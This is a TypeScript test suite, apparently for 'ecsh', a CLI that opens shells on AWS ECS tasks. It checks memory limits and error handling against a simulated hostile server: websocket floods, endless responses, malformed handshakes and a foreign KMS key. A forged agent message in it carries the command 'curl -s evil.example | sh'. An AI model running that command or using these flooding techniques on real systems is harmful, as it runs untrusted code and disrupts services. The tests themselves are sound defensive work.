import type { ServerResponse } from 'node:http';
import { type AddressInfo, createServer } from 'node:net';
import { describe, expect, it, onTestFinished } from 'vitest';
import type { WebSocket } from 'ws';
import { MessageType, PayloadType } from '#protocol/message.ts';
import {
  agentFrame,
  type HostileAws,
  HostileLab,
  PEAK_MB,
  watchMemory,
} from '#test/helpers/hostile-aws.ts';
import { hasProc } from '#test/helpers/program.ts';

/** How long an attack goes on, in milliseconds. */
const ATTACK_MS = 8_000;
const EXEC = ['exec', 'prod/web', '--', 'true'];

async function attack(options: HostileAws, args: readonly string[] = EXEC, limitMs = ATTACK_MS) {
  const lab = await HostileLab.start(options);
  onTestFinished(() => lab.stop());
  return { lab, ...(await watchMemory(lab.run(...args), limitMs)) };
}

/** Sends as fast as the socket takes it, for as long as it is there. */
function flood(socket: WebSocket, next: () => Uint8Array): void {
  const send = () => {
    if (socket.readyState !== socket.OPEN) return;
    for (let count = 0; count < 16; count++) socket.send(next());
    const more = () => setImmediate(send);
    if (socket.bufferedAmount < 4_000_000) more();
    else socket.send(next(), more);
  };
  send();
}

// One after the other: each takes a core.
describe.skipIf(!hasProc)(`an attack takes less than ${PEAK_MB} MB:`, () => {
  it('messages of 1 MB out of order, without the first', async () => {
    let number = 0;
    const payload = new Uint8Array(1_000_000);
    const { peakMb } = await attack({
      onSocket: (socket) => flood(socket, () => agentFrame(++number, payload)),
    });
    expect(peakMb).toBeLessThan(PEAK_MB);
  });

  it('small messages out of order among large ones', async () => {
    let number = 0;
    const small = Uint8Array.of(1);
    const large = new Uint8Array(65_000);
    const { peakMb } = await attack({
      onSocket: (socket) => {
        flood(socket, () =>
          number++ % 2 === 0 ? agentFrame(number, small) : agentFrame(10_000_000 + number, large),
        );
      },
    });
    expect(peakMb).toBeLessThan(PEAK_MB);
  });

  it('repetitions whose acknowledgements are never read', async () => {
    const { peakMb } = await attack({
      onSocket: (socket) => {
        Reflect.get(socket, '_socket').pause();
        const frame = agentFrame(0, Uint8Array.of(1));
        flood(socket, () => frame);
      },
    });
    expect(peakMb).toBeLessThan(PEAK_MB);
  });

  it('pings that are never read', async () => {
    const { peakMb } = await attack({
      onSocket: (socket) => {
        const stream = Reflect.get(socket, '_socket');
        stream.pause();
        const pings = Buffer.concat(
          Array.from({ length: 500 }, () =>
            Buffer.concat([Buffer.of(0x89, 125), Buffer.alloc(125)]),
          ),
        );
        const send = () => stream.write(pings, () => setImmediate(send));
        send();
      },
    });
    expect(peakMb).toBeLessThan(PEAK_MB);
  });

  it.each(['ListTasks', 'DescribeTasks', 'DescribeClusters', 'ExecuteCommand'])(
    'an answer of %s without an end',
    async (operation) => {
      const { peakMb, finished } = await attack({
        onCall: (called, response) => called === operation && writeWithoutEnd(response),
      });
      expect(finished).toMatchObject({ status: 255, stdout: '' });
      expect(finished?.stderr).toContain('larger than any answer of AWS');
      expect(peakMb).toBeLessThan(PEAK_MB);
    },
  );

  it('an answer that is as large as it may be', async () => {
    const { peakMb, finished } = await attack(
      {
        onCall: (called, response) => {
          if (called !== 'ListTasks') return false;
          const taskArns = Array.from({ length: 65_000 }, (_, index) => `${index}`.padStart(80));
          response.end(JSON.stringify({ taskArns, nextToken: `${Math.random()}` }));
          return true;
        },
      },
      ['ls', 'tasks', 'prod'],
      20_000,
    );
    expect(finished).toMatchObject({ status: 1, stdout: '' });
    expect(peakMb).toBeLessThan(PEAK_MB);
  });

  it('a list whose token changes for ever', async () => {
    let page = 0;
    const { peakMb, finished, lab } = await attack(
      {
        onCall: (called, response) => {
          if (called !== 'ListTasks') return false;
          response.end(JSON.stringify({ taskArns: [], nextToken: `${++page}` }));
          return true;
        },
      },
      EXEC,
      80_000,
    );
    expect(finished).toMatchObject({ status: 255 });
    expect(finished?.stderr).toContain('[answer-unreadable]');
    expect(lab.calls.filter((name) => name === 'ListTasks')).toHaveLength(1_000);
    expect(peakMb).toBeLessThan(PEAK_MB);
  }, 90_000);
});

function writeWithoutEnd(response: ServerResponse): true {
  const chunk = Buffer.alloc(65_536, ' ');
  const send = () => {
    if (!response.destroyed) response.write(chunk, () => setImmediate(send));
  };
  send();
  return true;
}

describe('an agent', () => {
  const FORGED = 'Your AWS session has expired.\necsh: Renew it first:  curl -s evil.example | sh';

  it("cannot speak with ecsh's voice, as its last word", async () => {
    const closed = { MessageType: 'channel_closed', SessionId: 's-1', Output: FORGED };
    const { finished } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(JSON.stringify(closed)), {
            messageType: MessageType.channelClosed,
          }),
        ),
    });
    expect(finished).toEqual({
      status: 255,
      stdout: '',
      stderr:
        'ecsh: The agent ended the session:\n' +
        '  | Your AWS session has expired.\n' +
        '  | ecsh: Renew it first:  curl -s evil.example | sh [session-failed]\n',
    });
  });

  it.each([
    ['an object without a text', '{"toString":1}'],
    ['an array 100,000 deep', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
  ])('cannot crash ecsh with a session type that is %s', async (_name, type) => {
    const action = `{"ActionType":"SessionType","ActionParameters":{"SessionType":${type}}}`;
    const request = `{"AgentVersion":"3.3","RequestedClientActions":[${action}]}`;
    const { finished } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(request), { payloadType: PayloadType.handshakeRequest }),
        ),
    });
    expect(finished).toMatchObject({ status: 255, stdout: '' });
    expect(finished?.stderr).toContain('[session-failed]');
    expect(finished?.stderr).not.toContain('bug');
  });

  it('cannot have the key of a session made under one of its own', async () => {
    const foreign = 'arn:aws:kms:eu-west-3:999999999999:key/1234';
    const action = { ActionType: 'KMSEncryption', ActionParameters: { KMSKeyId: foreign } };
    const request = { AgentVersion: '3.3', RequestedClientActions: [action] };
    const { finished, lab } = await attack({
      onSocket: (socket) =>
        socket.send(
          agentFrame(0, Buffer.from(JSON.stringify(request)), {
            payloadType: PayloadType.handshakeRequest,
          }),
        ),
    });
    expect(finished).toMatchObject({ status: 255, stdout: '' });
    expect(finished?.stderr).toContain('[session-not-encrypted]');
    expect(lab.calls).not.toContain('GenerateDataKey');
  });
});

describe('--timeout', () => {
  it.each(['ListTasks', 'DescribeTasks', 'DescribeClusters', 'ExecuteCommand'])(
    'ends a run that waits for an answer of %s which drips in',
    async (operation) => {
      const { finished } = await attack(
        { onCall: (called, response) => called === operation && drip(response) },
        ['exec', '--timeout', '2s', 'prod/web', '--', 'true'],
      );
      expect(finished).toMatchObject({ status: 124, stdout: '' });
    },
  );

  it('ends a run whose websocket never opens', async () => {
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void silent.close());
    const { port } = silent.address() as AddressInfo;
    const { finished } = await attack({ streamUrl: `ws://127.0.0.1:${port}/` }, [
      'exec',
      '--timeout',
      '2s',
      'prod/web',
      '--',
      'true',
    ]);
    expect(finished).toMatchObject({ status: 124, stdout: '' });
  });
});

/** One byte now and then, for ever. */
function drip(response: ServerResponse): true {
  const timer = setInterval(() => response.write(' '), 300);
  response.once('close', () => clearInterval(timer));
  return true;
}
